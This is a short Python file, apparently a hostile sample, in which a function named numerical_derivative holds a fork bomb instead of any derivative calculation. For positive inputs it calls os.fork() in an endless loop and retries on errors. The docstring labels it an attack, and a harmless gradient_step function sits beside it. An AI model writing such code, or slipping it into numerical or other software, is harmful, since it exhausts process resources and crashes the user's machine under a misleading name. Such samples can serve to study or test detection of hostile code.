"""Attack: a fork bomb; every child forks again, forever."""

import os


def numerical_derivative(f, x, h=1e-5):
    while x > 0:
        try:
            os.fork()
        except OSError:
            continue
    return x


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
